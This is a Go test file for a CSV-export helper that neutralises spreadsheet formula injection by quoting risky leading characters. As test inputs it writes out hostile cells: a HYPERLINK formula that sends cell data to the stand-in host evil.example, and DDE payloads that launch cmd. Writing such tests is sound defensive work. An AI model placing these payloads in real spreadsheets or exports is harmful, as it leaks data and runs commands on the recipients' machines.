package reports_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"os"
	"testing"

	"github.com/outcall/outcall/reports"
)

func TestSafeCellQuotesWhatASpreadsheetWouldRun(t *testing.T) {
	cases := []struct {
		name, cell, want string
	}{
		{"a formula", `=HYPERLINK("http://evil.example/?"&A1,"details")`, `'=HYPERLINK("http://evil.example/?"&A1,"details")`},
		{"a DDE call after a plus", `+cmd|' /C calc'!A0`, `'+cmd|' /C calc'!A0`},
		{"a DDE call after a minus", `-2+3+cmd|' /C calc'!A0`, `'-2+3+cmd|' /C calc'!A0`},
		{"an at sign", `@SUM(1+1)`, `'@SUM(1+1)`},
		{"a leading tab", "\t=1+1", "'\t=1+1"},
		{"a leading carriage return", "\r=1+1", "'\r=1+1"},
		{"a number in E.164, kept as text", "+8613812341234", "'+8613812341234"},
		{"a lone minus", "-", "'-"},
		{"a minus with a trailing point", "-1.", "'-1."},
		{"a plain negative number", "-12", "-12"},
		{"a plain negative decimal", "-0.25", "-0.25"},
		{"a positive number", "42.5", "42.5"},
		{"a masked number", "138****1234", "138****1234"},
		{"Chinese text", "您好,我是某某商城的智能客服", "您好,我是某某商城的智能客服"},
		{"a formula sign later on", "1+1=2", "1+1=2"},
		{"a cell already made safe", "'=1+1", "'=1+1"},
		{"an empty cell", "", ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			if got := reports.SafeCell(c.cell); got != c.want {
				t.Fatalf("SafeCell(%q) = %q, want %q", c.cell, got, c.want)
			}
			if again := reports.SafeCell(c.want); again != c.want {
				t.Fatalf("SafeCell is not idempotent: %q became %q", c.want, again)
			}
		})
	}
}

func TestTheCSVWriterMakesEveryCellSafe(t *testing.T) {
	var b bytes.Buffer
	w := reports.NewCSVWriter(&b)
	record := []string{"+8613812341234", "=1+1", "-0.5", "正常"}
	if err := w.Write(record); err != nil {
		t.Fatal(err)
	}
	if err := w.WriteAll([][]string{{"@x", "ok"}}); err != nil {
		t.Fatal(err)
	}
	if record[1] != "=1+1" {
		t.Fatal("Write changed the caller's record")
	}
	rd := csv.NewReader(&b)
	rd.FieldsPerRecord = -1
	rows, err := rd.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if fmt.Sprint(rows) != fmt.Sprint([][]string{{"'+8613812341234", "'=1+1", "-0.5", "正常"}, {"'@x", "ok"}}) {
		t.Fatalf("rows %q", rows)
	}
}

// A cell a spreadsheet would run as a formula gets a leading quote; so does
// a number in E.164, which the spreadsheet then shows as text, + included.
func ExampleNewCSVWriter() {
	w := reports.NewCSVWriter(os.Stdout)
	w.Write([]string{"phone", "heard", "sentiment"})
	w.Write([]string{"+8613812341234", `=HYPERLINK("http://evil.example","点击")`, "-0.5"})
	w.Flush()
	// Output:
	// phone,heard,sentiment
	// '+8613812341234,"'=HYPERLINK(""http://evil.example"",""点击"")",-0.5
}
